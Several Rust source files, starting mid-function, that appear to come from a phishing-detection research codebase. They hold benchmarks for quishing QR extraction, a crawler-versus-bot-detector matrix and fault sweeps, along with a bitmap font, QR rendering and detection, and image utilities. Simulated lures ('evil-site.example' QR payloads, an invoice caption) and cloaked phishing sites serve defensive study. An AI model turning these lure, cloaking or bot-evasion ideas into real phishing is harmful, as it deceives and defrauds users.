                "{}: ratio {:.2} below the 1.5x gate",
                arm.name,
                arm.ratio()
            );
        }
        eprintln!("gate: all ratios >= 1.5x");
    }

    let mut reports: Vec<serde_json::Value> = arms.iter().map(Ratio::report).collect();
    reports.push(serde_json::json!({
        "name": "qr_decode",
        "ns": ns_qr,
        "decoded_ok": decoded_ok,
    }));
    let micro = serde_json::json!({
        "iters": iters,
        "arms": reports,
    });

    match merge_path {
        Some(path) => {
            let text = std::fs::read_to_string(&path).expect("read merge target");
            let mut doc: serde_json::Value =
                serde_json::from_str(&text).expect("parse merge target");
            doc.as_object_mut()
                .expect("merge target must be a JSON object")
                .insert("micro_arms".to_string(), micro);
            std::fs::write(&path, format!("{doc:#}\n")).expect("write merge target");
            eprintln!("merged micro_arms into {path}");
        }
        None => println!("{micro:#}"),
    }
}
