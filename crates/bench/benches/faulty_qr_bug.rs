//! §V-C1 faulty-QR bench: the full quishing path — encode, render, detect,
//! decode, and the strict/lenient/patched extraction policies whose
//! mismatch is the in-the-wild bug.

use cb_artifacts::qrimage;
use cb_qr::extract::{extract_url_lenient, extract_url_patched, extract_url_strict};
use cb_qr::{decode_matrix, encode_bytes, EcLevel};
use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

const CLEAN: &[u8] = b"https://evil-site.example/dhfYWfH";
const FAULTY: &[u8] = b"xxx https://evil-site.example/dhfYWfH";

fn bench_codec(c: &mut Criterion) {
    let mut g = c.benchmark_group("qr/codec");
    for (label, payload) in [("short_v2", &CLEAN[..]), ("long_v7", &[b'u'; 150][..])] {
        g.bench_function(format!("encode/{label}"), |b| {
            b.iter(|| black_box(encode_bytes(black_box(payload), EcLevel::M).unwrap()))
        });
        let symbol = encode_bytes(payload, EcLevel::M).unwrap();
        g.bench_function(format!("decode/{label}"), |b| {
            b.iter(|| black_box(decode_matrix(black_box(symbol.matrix())).unwrap()))
        });
    }
    g.finish();
}

fn bench_image_path(c: &mut Criterion) {
    let symbol = encode_bytes(FAULTY, EcLevel::M).unwrap();
    let image = qrimage::render(symbol.matrix(), 2);
    let mut g = c.benchmark_group("qr/image");
    g.bench_function("render", |b| {
        b.iter(|| black_box(qrimage::render(black_box(symbol.matrix()), 2)))
    });
    g.bench_function("detect_and_decode", |b| {
        b.iter(|| black_box(qrimage::decode_from_image(black_box(&image)).unwrap()))
    });
    g.finish();
}

fn bench_extraction_policies(c: &mut Criterion) {
    let mut g = c.benchmark_group("qr/extract");
    for (label, payload) in [("clean", CLEAN), ("faulty", FAULTY)] {
        g.bench_function(format!("strict/{label}"), |b| {
            b.iter(|| black_box(extract_url_strict(black_box(payload))))
        });
        g.bench_function(format!("lenient/{label}"), |b| {
            b.iter(|| black_box(extract_url_lenient(black_box(payload))))
        });
        g.bench_function(format!("patched/{label}"), |b| {
            b.iter(|| black_box(extract_url_patched(black_box(payload))))
        });
    }
    g.finish();
}

criterion_group!(benches, bench_codec, bench_image_path, bench_extraction_policies);
criterion_main!(benches);
