//! Table I bench: the crawler × detector matrix, per detector and as the
//! full assessment, plus live site probes per crawler profile.

use cb_botdetect::{AnonWaf, BotD, Detector, ReCaptchaV3, Turnstile};
use cb_browser::{Browser, CrawlerProfile};
use cb_netsim::Internet;
use cb_phishkit::{Brand, CloakConfig, PhishingSite};
use cb_sim::SimTime;
use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

fn bench_detectors(c: &mut Criterion) {
    let report = CrawlerProfile::NotABot.fingerprint().attestation();
    let mut g = c.benchmark_group("table1/detectors");
    g.bench_function("botd", |b| {
        b.iter(|| black_box(BotD.evaluate(black_box(&report))))
    });
    g.bench_function("turnstile", |b| {
        b.iter(|| black_box(Turnstile::default().evaluate(black_box(&report))))
    });
    g.bench_function("anonwaf", |b| {
        b.iter(|| black_box(AnonWaf::default().evaluate(black_box(&report))))
    });
    g.bench_function("recaptcha_v3", |b| {
        b.iter(|| black_box(ReCaptchaV3::default().evaluate(black_box(&report))))
    });
    g.finish();
}

fn bench_full_matrix(c: &mut Criterion) {
    c.bench_function("table1/full_matrix", |b| {
        b.iter(|| black_box(crawlerbox::analysis::table1::table1()))
    });
}

fn bench_live_probes(c: &mut Criterion) {
    let net = Internet::new(SimTime::from_ymd(2024, 2, 1));
    net.register_domain("bench-kit.example", "REG");
    net.host(
        "bench-kit.example",
        PhishingSite::new(Brand::Amadora, "https://bench-kit.example", CloakConfig::typical_2024()),
    );
    let mut g = c.benchmark_group("table1/live_probe");
    for profile in [CrawlerProfile::NotABot, CrawlerProfile::PuppeteerStealth, CrawlerProfile::Kangooroo] {
        g.bench_function(profile.name(), |b| {
            let browser = Browser::new(profile);
            b.iter(|| black_box(browser.visit(&net, "https://bench-kit.example/")));
        });
    }
    g.finish();
}

criterion_group!(benches, bench_detectors, bench_full_matrix, bench_live_probes);
criterion_main!(benches);
