//! Fault-sweep bench: what the crawl supervisor costs.
//!
//! Compares scanning one corpus on a reliable network against scanning the
//! same corpus under a 20% transient-fault rate with supervision on
//! (retry/backoff recovery work) and off (fail-fast), plus the full
//! three-arm `repro faults` sweep.

use cb_phishgen::{Corpus, CorpusSpec};
use crawlerbox::analysis::fault_sweep;
use crawlerbox::{CrawlerBox, ScanPolicy};
use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;

const SCALE: f64 = 0.02;
const SEED: u64 = 2024;
const RATE: f64 = 0.2;

fn bench_supervised_scan(c: &mut Criterion) {
    let reliable = Corpus::generate(&CorpusSpec::paper().with_scale(SCALE), SEED);
    let faulted = Corpus::generate(
        &CorpusSpec::paper().with_scale(SCALE).with_fault_rate(RATE),
        SEED,
    );
    let batch_len = 24.min(reliable.messages.len());
    let mut g = c.benchmark_group("faults/scan_24_messages");
    g.throughput(Throughput::Elements(batch_len as u64));
    g.sample_size(10);
    g.bench_function("reliable_network", |b| {
        let cbx = CrawlerBox::new(&reliable.world);
        let batch = &reliable.messages[..batch_len];
        b.iter(|| black_box(cbx.scan_all(black_box(batch))))
    });
    g.bench_function("faulted_supervised", |b| {
        let cbx = CrawlerBox::new(&faulted.world);
        let batch = &faulted.messages[..batch_len];
        b.iter(|| black_box(cbx.scan_all(black_box(batch))))
    });
    g.bench_function("faulted_retryless", |b| {
        let cbx = CrawlerBox::new(&faulted.world)
            .with_policy(ScanPolicy::default().with_max_retries(0));
        let batch = &faulted.messages[..batch_len];
        b.iter(|| black_box(cbx.scan_all(black_box(batch))))
    });
    g.finish();
}

fn bench_full_sweep(c: &mut Criterion) {
    let spec = CorpusSpec::paper().with_scale(0.01);
    let mut g = c.benchmark_group("faults/sweep");
    g.sample_size(10);
    g.bench_function("three_arms_scale_0.01", |b| {
        b.iter(|| black_box(fault_sweep(black_box(&spec), SEED, RATE)))
    });
    g.finish();
}

criterion_group!(benches, bench_supervised_scan, bench_full_sweep);
criterion_main!(benches);
