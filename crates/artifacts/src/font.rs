//! A built-in 5×7 bitmap font.
//!
//! The corpus generator draws URLs *into* images (the paper's attackers
//! embed malicious text in images to evade text filters, §III-A), and the
//! OCR module recognizes glyphs back by template matching. Lowercase input
//! renders as its uppercase form — OCR output is therefore case-folded,
//! which is fine for URL recovery (hosts are case-insensitive; we only need
//! a matching closed loop).

use crate::bitmap::{Bitmap, Rgb};

/// Glyph width in pixels (excluding the 1-px advance gap).
pub const GLYPH_W: usize = 5;
/// Glyph height in pixels.
pub const GLYPH_H: usize = 7;
/// Horizontal advance between glyph origins.
pub const ADVANCE: usize = GLYPH_W + 1;

/// The characters this font can draw (lowercase letters fold to uppercase).
pub const CHARSET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789:/.-_?=&@#%+~ ";

type Glyph = [&'static str; GLYPH_H];

fn glyph(c: char) -> Option<&'static Glyph> {
    let c = c.to_ascii_uppercase();
    GLYPHS.iter().find(|(gc, _)| *gc == c).map(|(_, g)| g)
}

/// `true` if `c` has a glyph (after case folding).
pub fn has_glyph(c: char) -> bool {
    glyph(c).is_some()
}

#[rustfmt::skip]
static GLYPHS: &[(char, Glyph)] = &[
    ('A', [".###.", "#...#", "#...#", "#####", "#...#", "#...#", "#...#"]),
    ('B', ["####.", "#...#", "#...#", "####.", "#...#", "#...#", "####."]),
    ('C', [".###.", "#...#", "#....", "#....", "#....", "#...#", ".###."]),
    ('D', ["####.", "#...#", "#...#", "#...#", "#...#", "#...#", "####."]),
    ('E', ["#####", "#....", "#....", "####.", "#....", "#....", "#####"]),
    ('F', ["#####", "#....", "#....", "####.", "#....", "#....", "#...."]),
    ('G', [".###.", "#...#", "#....", "#.###", "#...#", "#...#", ".###."]),
    ('H', ["#...#", "#...#", "#...#", "#####", "#...#", "#...#", "#...#"]),
    ('I', ["#####", "..#..", "..#..", "..#..", "..#..", "..#..", "#####"]),
    ('J', ["..###", "...#.", "...#.", "...#.", "...#.", "#..#.", ".##.."]),
    ('K', ["#...#", "#..#.", "#.#..", "##...", "#.#..", "#..#.", "#...#"]),
    ('L', ["#....", "#....", "#....", "#....", "#....", "#....", "#####"]),
    ('M', ["#...#", "##.##", "#.#.#", "#.#.#", "#...#", "#...#", "#...#"]),
    ('N', ["#...#", "##..#", "#.#.#", "#..##", "#...#", "#...#", "#...#"]),
    ('O', [".###.", "#...#", "#...#", "#...#", "#...#", "#...#", ".###."]),
    ('P', ["####.", "#...#", "#...#", "####.", "#....", "#....", "#...."]),
    ('Q', [".###.", "#...#", "#...#", "#...#", "#.#.#", "#..#.", ".##.#"]),
    ('R', ["####.", "#...#", "#...#", "####.", "#.#..", "#..#.", "#...#"]),
    ('S', [".####", "#....", "#....", ".###.", "....#", "....#", "####."]),
    ('T', ["#####", "..#..", "..#..", "..#..", "..#..", "..#..", "..#.."]),
    ('U', ["#...#", "#...#", "#...#", "#...#", "#...#", "#...#", ".###."]),
    ('V', ["#...#", "#...#", "#...#", "#...#", "#...#", ".#.#.", "..#.."]),
    ('W', ["#...#", "#...#", "#...#", "#.#.#", "#.#.#", "##.##", "#...#"]),
    ('X', ["#...#", "#...#", ".#.#.", "..#..", ".#.#.", "#...#", "#...#"]),
    ('Y', ["#...#", "#...#", ".#.#.", "..#..", "..#..", "..#..", "..#.."]),
    ('Z', ["#####", "....#", "...#.", "..#..", ".#...", "#....", "#####"]),
    ('0', [".###.", "#...#", "#..##", "#.#.#", "##..#", "#...#", ".###."]),
    ('1', ["..#..", ".##..", "..#..", "..#..", "..#..", "..#..", ".###."]),
    ('2', [".###.", "#...#", "....#", "...#.", "..#..", ".#...", "#####"]),
    ('3', [".###.", "#...#", "....#", "..##.", "....#", "#...#", ".###."]),
    ('4', ["...#.", "..##.", ".#.#.", "#..#.", "#####", "...#.", "...#."]),
    ('5', ["#####", "#....", "####.", "....#", "....#", "#...#", ".###."]),
    ('6', [".###.", "#....", "#....", "####.", "#...#", "#...#", ".###."]),
    ('7', ["#####", "....#", "...#.", "..#..", ".#...", ".#...", ".#..."]),
    ('8', [".###.", "#...#", "#...#", ".###.", "#...#", "#...#", ".###."]),
    ('9', [".###.", "#...#", "#...#", ".####", "....#", "....#", ".###."]),
    (':', [".....", "..#..", "..#..", ".....", "..#..", "..#..", "....."]),
    ('/', ["....#", "....#", "...#.", "..#..", ".#...", "#....", "#...."]),
    ('.', [".....", ".....", ".....", ".....", ".....", ".##..", ".##.."]),
    ('-', [".....", ".....", ".....", "#####", ".....", ".....", "....."]),
    ('_', [".....", ".....", ".....", ".....", ".....", ".....", "#####"]),
    ('?', [".###.", "#...#", "....#", "...#.", "..#..", ".....", "..#.."]),
    ('=', [".....", ".....", "#####", ".....", "#####", ".....", "....."]),
    ('&', [".##..", "#..#.", "#.#..", ".#...", "#.#.#", "#..#.", ".##.#"]),
    ('@', [".###.", "#...#", "#.###", "#.#.#", "#.##.", "#....", ".###."]),
    ('#', [".#.#.", "#####", ".#.#.", ".#.#.", ".#.#.", "#####", ".#.#."]),
    ('%', ["##..#", "##..#", "...#.", "..#..", ".#...", "#..##", "#..##"]),
    ('+', [".....", "..#..", "..#..", "#####", "..#..", "..#..", "....."]),
    ('~', [".....", ".....", ".#...", "#.#.#", "...#.", ".....", "....."]),
    (' ', [".....", ".....", ".....", ".....", ".....", ".....", "....."]),
];

/// Draw one glyph; returns `true` if the character had a glyph.
pub fn draw_glyph(img: &mut Bitmap, x: usize, y: usize, c: char, scale: usize, color: Rgb) -> bool {
    let Some(g) = glyph(c) else {
        return false;
    };
    for (gy, row) in g.iter().enumerate() {
        for (gx, cell) in row.bytes().enumerate() {
            if cell == b'#' {
                img.fill_rect(x + gx * scale, y + gy * scale, scale, scale, color);
            }
        }
    }
    true
}

/// Draw a text run; characters without glyphs advance but draw nothing.
/// Returns the x coordinate after the final glyph cell.
pub fn draw_text(
    img: &mut Bitmap,
    x: usize,
    y: usize,
    text: &str,
    scale: usize,
    color: Rgb,
) -> usize {
    let mut cx = x;
    for c in text.chars() {
        draw_glyph(img, cx, y, c, scale, color);
        cx += ADVANCE * scale;
    }
    cx
}

/// The pixel pattern of a glyph as a boolean grid (for OCR templates).
pub fn glyph_pattern(c: char) -> Option<[[bool; GLYPH_W]; GLYPH_H]> {
    glyph(c).map(|g| {
        let mut out = [[false; GLYPH_W]; GLYPH_H];
        for (y, row) in g.iter().enumerate() {
            for (x, cell) in row.bytes().enumerate() {
                out[y][x] = cell == b'#';
            }
        }
        out
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_charset_character_has_a_glyph() {
        for c in CHARSET.chars() {
            assert!(has_glyph(c), "{c:?}");
        }
        assert!(has_glyph('a'), "lowercase folds");
        assert!(!has_glyph('€'));
    }

    #[test]
    fn glyph_rows_are_well_formed() {
        for (c, g) in GLYPHS {
            for row in g {
                assert_eq!(row.len(), GLYPH_W, "glyph {c:?}");
                assert!(row.bytes().all(|b| b == b'#' || b == b'.'), "glyph {c:?}");
            }
        }
    }

    #[test]
    fn glyphs_are_distinct() {
        for (i, (c1, g1)) in GLYPHS.iter().enumerate() {
            for (c2, g2) in &GLYPHS[i + 1..] {
                assert_ne!(g1, g2, "glyphs {c1:?} and {c2:?} are identical");
            }
        }
    }

    #[test]
    fn draw_text_marks_pixels() {
        let mut img = Bitmap::new(100, 12, Rgb::WHITE);
        let end = draw_text(&mut img, 1, 1, "HI", 1, Rgb::BLACK);
        assert_eq!(end, 1 + 2 * ADVANCE);
        // 'H' left column
        assert_eq!(img.get(1, 1), Rgb::BLACK);
        assert_eq!(img.get(1, 7), Rgb::BLACK);
        // gap column between glyphs is untouched
        assert_eq!(img.get(6, 3), Rgb::WHITE);
    }

    #[test]
    fn scale_multiplies_glyph_size() {
        let mut img = Bitmap::new(40, 30, Rgb::WHITE);
        draw_glyph(&mut img, 0, 0, 'L', 3, Rgb::BLACK);
        // 'L' column 0 is dark for all 7 rows -> 21 scaled pixels tall
        for y in 0..21 {
            assert_eq!(img.get(1, y), Rgb::BLACK, "y={y}");
        }
        assert_eq!(img.get(4, 0), Rgb::WHITE);
    }

    #[test]
    fn unknown_characters_draw_nothing_but_advance() {
        let mut img = Bitmap::new(40, 10, Rgb::WHITE);
        let end = draw_text(&mut img, 0, 0, "\u{3042}A", 1, Rgb::BLACK);
        assert_eq!(end, 2 * ADVANCE);
        // first cell empty
        for y in 0..GLYPH_H {
            for x in 0..GLYPH_W {
                assert_eq!(img.get(x, y), Rgb::WHITE);
            }
        }
    }

    #[test]
    fn pattern_matches_drawing() {
        let pat = glyph_pattern('T').unwrap();
        let mut img = Bitmap::new(8, 8, Rgb::WHITE);
        draw_glyph(&mut img, 0, 0, 'T', 1, Rgb::BLACK);
        for (y, row) in pat.iter().enumerate() {
            for (x, &dark) in row.iter().enumerate() {
                assert_eq!(img.get(x, y) == Rgb::BLACK, dark);
            }
        }
    }
}
