//! Rendering QR symbols into bitmaps and detecting/sampling them back.
//!
//! The attacker side embeds QR codes in message images ("quishing"); the
//! pipeline side must find the symbol in a screenshot or inline image,
//! recover the module grid, and hand it to [`cb_qr::decode_matrix`]. The
//! detector assumes an upright symbol at uniform scale — the situation in
//! email images — and locates it by the finder pattern's 1:1:3:1:1
//! run-length signature, exactly how real detectors seed their search.

use crate::bitmap::{Bitmap, Rgb};
use crate::inkmask::InkMask;
use cb_qr::{QrMatrix, tables};

/// Quiet-zone width in modules mandated by the spec.
pub const QUIET_ZONE: usize = 4;

/// Render `matrix` at `module_px` pixels per module with a 4-module quiet
/// zone, optionally offset inside a larger canvas.
///
/// # Panics
///
/// Panics if `module_px` is zero.
pub fn render(matrix: &QrMatrix, module_px: usize) -> Bitmap {
    assert!(module_px > 0, "module_px must be nonzero");
    let n = matrix.size();
    let total = (n + 2 * QUIET_ZONE) * module_px;
    let mut img = Bitmap::new(total, total, Rgb::WHITE);
    draw_at(&mut img, matrix, QUIET_ZONE * module_px, QUIET_ZONE * module_px, module_px);
    img
}

/// Draw `matrix` into an existing image at pixel offset `(x0, y0)`.
pub fn draw_at(img: &mut Bitmap, matrix: &QrMatrix, x0: usize, y0: usize, module_px: usize) {
    let n = matrix.size();
    for r in 0..n {
        for c in 0..n {
            if matrix.get(r, c) {
                img.fill_rect(x0 + c * module_px, y0 + r * module_px, module_px, module_px, Rgb::BLACK);
            }
        }
    }
}

/// Locate and sample a QR symbol in `img`.
///
/// Returns the reconstructed [`QrMatrix`] (with its version inferred from
/// the sampled size), or `None` if no plausible symbol is found.
pub fn detect(img: &Bitmap) -> Option<QrMatrix> {
    // Binarize into the shared thread-local word-packed mask (no per-image
    // allocation; the OCR pass over the same image reuses the buffer).
    img.with_ink_words(128, |dark| {
        let (w, h) = (img.width(), img.height());

        // Find a finder pattern via horizontal 1:1:3:1:1 run-length scan.
        let (cx, cy, module_px) = find_finder(dark)?;

        // The finder centre sits 3.5 modules in from the symbol corner.
        let x0 = (cx as isize - (3.5 * module_px as f64) as isize).max(0) as usize;
        let y0 = (cy as isize - (3.5 * module_px as f64) as isize).max(0) as usize;

        // Try every supported version: sample the grid and check the timing
        // pattern for consistency.
        for version in (1..=tables::MAX_VERSION).rev() {
            let n = tables::symbol_size(version);
            if x0 + n * module_px > w || y0 + n * module_px > h {
                continue;
            }
            if let Some(m) = sample_grid(dark, x0, y0, module_px, version) {
                return Some(m);
            }
        }
        None
    })
}

/// Render→detect convenience used in tests and the pipeline: decode the
/// payload of any QR symbol present in `img`.
pub fn decode_from_image(img: &Bitmap) -> Option<Vec<u8>> {
    let m = detect(img)?;
    cb_qr::decode_matrix(&m).ok()
}

/// Scan rows for the finder signature; returns (center_x, center_y,
/// module_px).
///
/// Rows are walked as runs via [`InkMask::next_transition`] — run
/// boundaries come from word scans (64 pixels per load) and a five-slot
/// ring buffer replaces the per-row `Vec` of runs the bool-mask
/// implementation materialized.
fn find_finder(dark: &InkMask) -> Option<(usize, usize, usize)> {
    let (w, h) = (dark.width(), dark.height());
    for y in 0..h {
        // last five runs, oldest first: (value, start, len)
        let mut runs = [(false, 0usize, 0usize); 5];
        let mut filled = 0usize;
        let mut x = 0usize;
        while x < w {
            let v = dark.get(x, y);
            let end = dark.next_transition(y, x, v);
            runs.rotate_left(1);
            runs[4] = (v, x, end - x);
            filled += 1;
            x = end;
            if filled < 5 {
                continue;
            }
            // look for dark-light-dark-light-dark with 1:1:3:1:1
            if !(runs[0].0 && !runs[1].0 && runs[2].0 && !runs[3].0 && runs[4].0) {
                continue;
            }
            let unit = runs[0].2;
            if unit == 0 {
                continue;
            }
            let ratios_ok = runs[1].2 == unit
                && runs[2].2 == 3 * unit
                && runs[3].2 == unit
                && runs[4].2 == unit;
            if !ratios_ok {
                continue;
            }
            let cx = runs[2].1 + runs[2].2 / 2;
            // verify vertically at cx: same signature centred at y
            if verify_vertical(dark, cx, y, unit) {
                // centre y: middle of the 3-unit vertical core
                return Some((cx, y, unit));
            }
        }
    }
    None
}

/// Check the vertical 1:1:3:1:1 signature through (cx, y).
fn verify_vertical(dark: &InkMask, cx: usize, y: usize, unit: usize) -> bool {
    // Expect dark for 3 units around y (the core), then light 1, dark 1.
    let get = |yy: isize| -> Option<bool> {
        if yy < 0 || yy as usize >= dark.height() {
            None
        } else {
            Some(dark.get(cx, yy as usize))
        }
    };
    let u = unit as isize;
    let y = y as isize;
    // sample centre of each band above and below
    let core = get(y) == Some(true);
    let above_light = get(y - 2 * u) == Some(false);
    let above_dark = get(y - 3 * u) == Some(true);
    let below_light = get(y + 2 * u) == Some(false);
    let below_dark = get(y + 3 * u) == Some(true);
    core && above_light && above_dark && below_light && below_dark
}

/// Sample an n×n grid and validate its timing pattern; returns the matrix if
/// plausible.
fn sample_grid(
    dark: &InkMask,
    x0: usize,
    y0: usize,
    module_px: usize,
    version: usize,
) -> Option<QrMatrix> {
    let n = tables::symbol_size(version);
    let mut m = QrMatrix::new(version);
    for r in 0..n {
        for c in 0..n {
            let px = x0 + c * module_px + module_px / 2;
            let py = y0 + r * module_px + module_px / 2;
            m.set(r, c, dark.get(px, py));
        }
    }
    // Validate: horizontal+vertical timing patterns must alternate, and the
    // three finder cores must be present.
    for i in 8..n - 8 {
        if m.get(6, i) != (i % 2 == 0) || m.get(i, 6) != (i % 2 == 0) {
            return None;
        }
    }
    for &(r, c) in &[(3usize, 3usize), (3, n - 4), (n - 4, 3)] {
        if !m.get(r, c) {
            return None;
        }
    }
    Some(m)
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_qr::{encode_bytes, EcLevel};

    #[test]
    fn render_detect_decode_round_trip() {
        let payload = b"https://evil-site.example/dhfYWfH";
        let sym = encode_bytes(payload, EcLevel::M).unwrap();
        for module_px in [1usize, 2, 4] {
            let img = render(sym.matrix(), module_px);
            let decoded = decode_from_image(&img).expect("detect+decode");
            assert_eq!(decoded, payload, "module_px={module_px}");
        }
    }

    #[test]
    fn offset_symbol_inside_larger_canvas() {
        let sym = encode_bytes(b"xxx https://evil-site.example/", EcLevel::M).unwrap();
        let mut canvas = Bitmap::new(300, 260, Rgb::WHITE);
        canvas.draw_text(10, 6, "SCAN TO VIEW INVOICE", 1, Rgb::BLACK);
        draw_at(&mut canvas, sym.matrix(), 60, 40, 3);
        let decoded = decode_from_image(&canvas).expect("found in canvas");
        assert_eq!(decoded, b"xxx https://evil-site.example/");
    }

    #[test]
    fn higher_versions_detected() {
        let payload = vec![b'u'; 150];
        let sym = encode_bytes(&payload, EcLevel::L).unwrap();
        assert!(sym.version() >= 7);
        let img = render(sym.matrix(), 2);
        assert_eq!(decode_from_image(&img).unwrap(), payload);
    }

    #[test]
    fn blank_image_detects_nothing() {
        let img = Bitmap::new(100, 100, Rgb::WHITE);
        assert!(detect(&img).is_none());
    }

    #[test]
    fn text_only_image_detects_nothing() {
        let mut img = Bitmap::new(240, 30, Rgb::WHITE);
        img.draw_text(2, 2, "NO CODE HERE JUST WORDS", 1, Rgb::BLACK);
        assert!(detect(&img).is_none());
    }

    #[test]
    fn speckled_symbol_still_decodes() {
        // Error correction absorbs sparse speckle noise.
        let payload = b"https://resilient.example/";
        let sym = encode_bytes(payload, EcLevel::H).unwrap();
        let img = render(sym.matrix(), 4).add_noise(5, 12);
        if let Some(d) = decode_from_image(&img) {
            assert_eq!(d, payload);
        }
        // (If noise happens to hit the timing pattern, detection may fail —
        // that is honest behaviour, not a bug; the clean-path test above is
        // the correctness gate.)
    }

    #[test]
    fn quiet_zone_size_respected() {
        let sym = encode_bytes(b"q", EcLevel::L).unwrap();
        let img = render(sym.matrix(), 2);
        assert_eq!(img.width(), (21 + 8) * 2);
        // corner pixel is white quiet zone
        assert_eq!(img.get(0, 0), Rgb::WHITE);
    }
}
