//! RGB raster images.
//!
//! The analysis pipeline screenshots every loaded page and scans inline
//! images; the attacker side renders QR codes and lure graphics. [`Bitmap`]
//! is the shared raster: 8-bit RGB, with the operations both sides need —
//! fills, rectangles, text (via [`crate::font`]), grayscale conversion,
//! nearest-neighbour scaling, cropping, deterministic noise, and the CSS
//! `hue-rotate` colour filter the paper saw injected into 167 phishing pages
//! to defeat visual-similarity checks.

use std::fmt;

/// An 8-bit RGB colour.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub struct Rgb {
    /// Red channel.
    pub r: u8,
    /// Green channel.
    pub g: u8,
    /// Blue channel.
    pub b: u8,
}

impl Rgb {
    /// Pure white.
    pub const WHITE: Rgb = Rgb::new(255, 255, 255);
    /// Pure black.
    pub const BLACK: Rgb = Rgb::new(0, 0, 0);

    /// Construct from channels.
    pub const fn new(r: u8, g: u8, b: u8) -> Rgb {
        Rgb { r, g, b }
    }

    /// Rec. 601 luma (0–255).
    pub fn luma(self) -> u8 {
        ((self.r as u32 * 299 + self.g as u32 * 587 + self.b as u32 * 114) / 1000) as u8
    }

    /// Rotate the hue by `degrees` using the standard feColorMatrix
    /// approximation the CSS `hue-rotate()` filter specifies.
    pub fn hue_rotate(self, degrees: f64) -> Rgb {
        let rad = degrees.to_radians();
        let (sin, cos) = (rad.sin(), rad.cos());
        // Coefficients from the SVG/CSS filter-effects spec.
        let m = [
            [
                0.213 + cos * 0.787 - sin * 0.213,
                0.715 - cos * 0.715 - sin * 0.715,
                0.072 - cos * 0.072 + sin * 0.928,
            ],
            [
                0.213 - cos * 0.213 + sin * 0.143,
                0.715 + cos * 0.285 + sin * 0.140,
                0.072 - cos * 0.072 - sin * 0.283,
            ],
            [
                0.213 - cos * 0.213 - sin * 0.787,
                0.715 - cos * 0.715 + sin * 0.715,
                0.072 + cos * 0.928 + sin * 0.072,
            ],
        ];
        let apply = |row: [f64; 3]| {
            (row[0] * self.r as f64 + row[1] * self.g as f64 + row[2] * self.b as f64)
                .clamp(0.0, 255.0) as u8
        };
        Rgb::new(apply(m[0]), apply(m[1]), apply(m[2]))
    }
}

/// An owned RGB image.
#[derive(Clone, PartialEq, Eq)]
pub struct Bitmap {
    width: usize,
    height: usize,
    pixels: Vec<Rgb>,
}

impl fmt::Debug for Bitmap {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Bitmap({}x{})", self.width, self.height)
    }
}

impl Bitmap {
    /// A `width`×`height` bitmap filled with `fill`.
    ///
    /// # Panics
    ///
    /// Panics if either dimension is zero.
    pub fn new(width: usize, height: usize, fill: Rgb) -> Bitmap {
        assert!(width > 0 && height > 0, "bitmap dimensions must be nonzero");
        Bitmap {
            width,
            height,
            pixels: vec![fill; width * height],
        }
    }

    /// Image width in pixels.
    pub fn width(&self) -> usize {
        self.width
    }

    /// Image height in pixels.
    pub fn height(&self) -> usize {
        self.height
    }

    /// Pixel at `(x, y)`.
    ///
    /// # Panics
    ///
    /// Panics if out of bounds.
    pub fn get(&self, x: usize, y: usize) -> Rgb {
        assert!(x < self.width && y < self.height, "pixel out of bounds");
        self.pixels[y * self.width + x]
    }

    /// Set pixel at `(x, y)`; out-of-bounds writes are ignored (clipping).
    pub fn set(&mut self, x: usize, y: usize, c: Rgb) {
        if x < self.width && y < self.height {
            self.pixels[y * self.width + x] = c;
        }
    }

    /// Fill the axis-aligned rectangle with corner `(x, y)` and the given
    /// size (clipped to the image).
    pub fn fill_rect(&mut self, x: usize, y: usize, w: usize, h: usize, c: Rgb) {
        for yy in y..(y + h).min(self.height) {
            for xx in x..(x + w).min(self.width) {
                self.pixels[yy * self.width + xx] = c;
            }
        }
    }

    /// Grayscale copy (each channel set to luma).
    pub fn to_gray(&self) -> Bitmap {
        let mut out = self.clone();
        for p in &mut out.pixels {
            let l = p.luma();
            *p = Rgb::new(l, l, l);
        }
        out
    }

    /// All pixels, row-major. Borrow-only access for hot paths that would
    /// otherwise allocate a per-call copy (binarization, hashing).
    pub fn pixels(&self) -> &[Rgb] {
        &self.pixels
    }

    /// Luma values row-major, for hashing.
    pub fn luma_values(&self) -> Vec<u8> {
        self.pixels.iter().map(|p| p.luma()).collect()
    }

    /// 128-bit content fingerprint over dimensions and pixel data. Two
    /// bitmaps fingerprint equal iff they are equal (modulo FNV collisions,
    /// which at 128 bits are unreachable here) — the memoization key for
    /// per-image decode results.
    pub fn content_fingerprint(&self) -> u128 {
        let dims = self
            .width
            .to_le_bytes()
            .into_iter()
            .chain(self.height.to_le_bytes());
        let rgb = self.pixels.iter().flat_map(|p| [p.r, p.g, p.b]);
        crate::fingerprint::fnv128_iter(dims.chain(rgb))
    }

    /// Run `f` over this image's thresholded ink mask (`luma < threshold`,
    /// row-major). The mask is built in a thread-local scratch buffer
    /// reused across calls, so repeated binarization (OCR scale probing, QR
    /// detection) stops allocating per image. Nested calls from within `f`
    /// fall back to a fresh buffer rather than aliasing the scratch.
    pub fn with_ink_mask<R>(&self, threshold: u8, f: impl FnOnce(&[bool]) -> R) -> R {
        use std::cell::RefCell;
        thread_local! {
            static INK_SCRATCH: RefCell<Vec<bool>> = const { RefCell::new(Vec::new()) };
        }
        INK_SCRATCH.with(|cell| {
            // Take the buffer out of the cell: a nested with_ink_mask call
            // then sees an empty scratch and allocates its own.
            let mut mask = cell.take();
            mask.clear();
            mask.extend(self.pixels.iter().map(|p| p.luma() < threshold));
            let out = f(&mask);
            *cell.borrow_mut() = mask;
            out
        })
    }

    /// Run `f` over this image's word-packed ink mask (`luma < threshold`,
    /// see [`crate::inkmask::InkMask`]). Like [`Bitmap::with_ink_mask`] the
    /// mask and its luma scratch live in thread-local buffers reused across
    /// calls; nested calls from within `f` fall back to fresh buffers. The
    /// analysis kernels (OCR, QR detection) run on this packed form — the
    /// bool-slice variant remains as the reference representation and the
    /// micro-bench "before" arm.
    pub fn with_ink_words<R>(&self, threshold: u8, f: impl FnOnce(&crate::inkmask::InkMask) -> R) -> R {
        use crate::inkmask::InkMask;
        use std::cell::RefCell;
        thread_local! {
            static WORD_SCRATCH: RefCell<(InkMask, Vec<u8>)> =
                const { RefCell::new((InkMask::new(), Vec::new())) };
        }
